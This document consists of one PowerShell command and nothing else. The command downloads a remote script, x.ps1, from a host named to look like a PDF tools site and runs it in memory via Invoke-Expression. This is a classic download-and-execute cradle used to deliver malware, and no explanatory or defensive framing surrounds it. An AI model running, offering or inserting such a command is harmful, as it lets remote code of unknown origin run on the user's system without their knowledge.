IEX(New-Object Net.WebClient).DownloadString("https://pdf-tools.example/x.ps1")
